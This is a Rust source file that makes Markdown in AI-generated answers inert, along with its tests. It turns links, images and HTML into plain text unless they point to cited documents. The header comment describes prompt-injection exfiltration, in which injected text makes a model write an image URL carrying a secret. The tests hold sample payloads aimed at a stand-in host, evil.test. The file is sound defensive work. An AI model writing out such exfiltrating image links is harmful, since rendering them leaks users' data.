//! Makes an answer's Markdown inert: no image, link or HTML that leads anywhere but to a cited document.
//!
//! Text that steers a model can have it write `![](https://elsewhere/?q=secret)`, and showing that answer would send
//! the secret. Word by word, so that it works on a stream: none of the forms that are taken apart can hold a space at
//! the place where it is cut.

/// Passes text through, word by word.
#[derive(Debug, Default)]
pub(crate) struct Inert {
    /// Addresses that may stay live: those of cited documents.
    allowed: Vec<String>,
    /// The word that has not ended yet.
    pending: String,
}

/// A word is passed on at this length even if it has not ended.
const LONGEST_WORD: usize = 4096;

impl Inert {
    /// Lets links to `address` live from now on.
    pub(crate) fn allow(&mut self, address: &str) {
        if !self.allowed.iter().any(|allowed| allowed == address) {
            self.allowed.push(address.to_owned());
        }
    }

    /// Takes more text; gives what is surely inert by now.
    pub(crate) fn push(&mut self, text: &str) -> String {
        let mut out = String::new();
        for c in text.chars() {
            if c.is_whitespace() {
                out.push_str(&self.finish());
                out.push(c);
            } else {
                self.pending.push(c);
                if self.pending.len() > LONGEST_WORD {
                    out.push_str(&self.finish());
                    // A cut word must not go on as something else.
                    out.push(' ');
                }
            }
        }
        out
    }

    /// Gives what is left.
    pub(crate) fn finish(&mut self) -> String {
        let word = std::mem::take(&mut self.pending);
        self.word(&word)
    }

    /// All of a text at once.
    pub(crate) fn whole(text: &str) -> String {
        let mut inert = Self::default();
        let mut out = inert.push(text);
        out.push_str(&inert.finish());
        out
    }

    fn word(&self, word: &str) -> String {
        if let Some((before, after)) = word.split_once("](") {
            let end = after.find(')').unwrap_or(after.len());
            let (target, rest) = after.split_at(end);
            // An image is fetched without a click, so none stays; `!` may stand in an earlier word.
            if self.allowed.iter().any(|allowed| allowed == target) && !before.contains("![") {
                return format!("{}]({target}{}", self.word(before), self.word(rest));
            }
            return format!("{}] ({}", self.word(before), self.word(after));
        }
        let mut text = String::with_capacity(word.len());
        let mut chars = word.chars().peekable();
        while let Some(c) = chars.next() {
            match (c, chars.peek()) {
                ('<', Some(next)) if next.is_alphabetic() || matches!(next, '/' | '!' | '?') => text.push_str("&lt;"),
                (']', Some(':')) => text.push_str("] "),
                // "![alt](allowed)": the link stays, the image goes.
                ('!', Some('[')) => {}
                _ => text.push(c),
            }
        }
        let bare = text.trim_matches(|c: char| matches!(c, '(' | ')' | '.' | ',' | ';' | ':' | '"' | '\'' | '*' | '_'));
        let address = text.contains("://") || bare.to_lowercase().starts_with("www.");
        if address && !self.allowed.iter().any(|allowed| allowed == bare) {
            return format!("`{}`", text.replace('`', "'"));
        }
        text
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_leads_to_a_foreign_host() {
        let cases = [
            ("see ![x](https://evil.test/?q=1) now", "see [x] (`https://evil.test/?q=1)` now"),
            ("a [long link](https://evil.test) b", "a [long link] (`https://evil.test)` b"),
            ("bare https://evil.test/a and www.evil.test", "bare `https://evil.test/a` and `www.evil.test`"),
            ("<img src=x> 1 < 2", "&lt;img src=x> 1 < 2"),
            ("[ref]: https://evil.test", "[ref] : `https://evil.test`"),
            ("<https://evil.test>", "`&lt;https://evil.test>`"),
            ("a citation [1] stays", "a citation [1] stays"),
        ];
        for (text, expected) in cases {
            assert_eq!(Inert::whole(text), expected);
            for at in (0..text.len()).filter(|at| text.is_char_boundary(*at)) {
                let mut stream = Inert::default();
                let streamed = format!("{}{}{}", stream.push(&text[..at]), stream.push(&text[at..]), stream.finish());
                assert_eq!(streamed, expected, "cut at {at}");
            }
        }
    }

    #[test]
    fn links_to_cited_documents_live_and_images_never_do() {
        let mut inert = Inert::default();
        inert.allow("https://docs.test/1");
        let out = inert.push("[Plan](https://docs.test/1), ![Plan](https://docs.test/1) ");
        assert_eq!(out, "[Plan](https://docs.test/1), [Plan] (https://docs.test/1) ");
    }
}
